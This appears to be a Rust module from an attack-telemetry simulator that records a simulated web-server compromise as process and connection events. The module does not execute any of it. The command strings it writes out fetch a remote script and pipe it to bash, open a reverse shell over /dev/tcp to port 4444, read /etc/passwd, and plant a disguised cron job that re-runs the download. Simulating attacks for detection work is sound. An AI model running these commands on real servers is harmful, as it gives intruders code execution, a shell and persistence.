//! On the Linux web server: a hole in the web application becomes a shell and a cron job.

use std::sync::Arc;

use crate::activity::core::LinuxCore;
use crate::clock::{MILLI, MINUTE, SECOND};
use crate::device::{Device, Start};
use crate::process::Process;
use crate::record::Connection;
use crate::software::{Binary, linux};

fn exec(
    device: &mut Device,
    at: i64,
    binary: &'static Binary,
    parent: &Arc<Process>,
    line: &str,
    lifetime: i64,
) -> Arc<Process> {
    device.start(Start {
        at,
        binary,
        image: None,
        parent,
        command_line: line.to_owned(),
        session: &parent.session,
        integrity: "no level",
        lifetime,
    })
}

/// The request, the script from outside, the shell back, the cron file.
pub(super) fn open(device: &mut Device, at: i64) {
    let Some(core) = device.linux(at) else { return };
    let (Some(nginx), Some(php)) = (core.role(&linux::NGINX), core.role(&linux::PHP_FPM)) else {
        return;
    };
    let world = Arc::clone(&device.world);
    let names = &world.plan.names;
    device.connected(at, nginx, Connection::from(names.address, "-", 443));
    let fetch = format!("curl -s http://{}/w.sh", names.domain);
    let line = format!("sh -c {fetch} | bash");
    let shell = exec(device, at + 400 * MILLI, &linux::SH, php, &line, 50 * SECOND);
    let curl = exec(device, at + 420 * MILLI, &linux::CURL, &shell, &fetch, 2 * SECOND);
    let outside = Connection::to(names.address, names.domain, 80);
    device.connected(at + 700 * MILLI, &curl, outside);
    let bash = exec(device, at + 430 * MILLI, &linux::BASH, &shell, "bash", 40 * SECOND);
    back_connect(device, &bash, at + 3_618 * MILLI, names.address);
    schedule(device, &core, at + 4 * MINUTE);
}

/// An interactive shell that talks to the outside.
fn back_connect(device: &mut Device, bash: &Arc<Process>, at: i64, address: &str) {
    let line = format!("bash -c bash -i >& /dev/tcp/{address}/4444 0>&1");
    let outer = exec(device, at, &linux::BASH, bash, &line, 30 * MINUTE);
    device.connected(at + 20 * MILLI, &outer, Connection::to(address, "-", 4444));
    let inner = exec(device, at + 40 * MILLI, &linux::BASH, &outer, "bash -i", 30 * MINUTE);
    let commands: [(&'static Binary, &str); 4] = [
        (&linux::ID, "id"),
        (&linux::UNAME, "uname -a"),
        (&linux::CAT, "cat /etc/passwd"),
        (&linux::LS, "ls -la /etc/cron.d"),
    ];
    let mut later = at + 6_286 * MILLI;
    for (binary, line) in commands {
        exec(device, later, binary, &inner, line, 20 * MILLI);
        later += device.rng.between(3, 20) * SECOND;
    }
    device.foothold = Some(inner);
}

/// A job that fetches the script again every few minutes. The web server's account may write to
/// the folder on this host: somebody's deployment script needed it once.
fn schedule(device: &mut Device, core: &Arc<LinuxCore>, at: i64) {
    let Some(shell) = device.foothold.clone() else { return };
    device.file_created(at, &shell, "/etc/cron.d/php-session-gc");
    let world = Arc::clone(&device.world);
    let fetch = format!("curl -s http://{}/w.sh", world.plan.names.domain);
    for nth in 1..4 {
        let at = at + nth * 10 * MINUTE;
        let line = "/usr/sbin/CRON -f -P";
        let job = exec(device, at, &linux::CRON, &core.cron, line, 3 * SECOND);
        let line = format!("/bin/sh -c {fetch} | bash");
        let sh = exec(device, at + 5 * MILLI, &linux::SH, &job, &line, 2 * SECOND);
        exec(device, at + 9 * MILLI, &linux::CURL, &sh, &fetch, SECOND);
    }
}
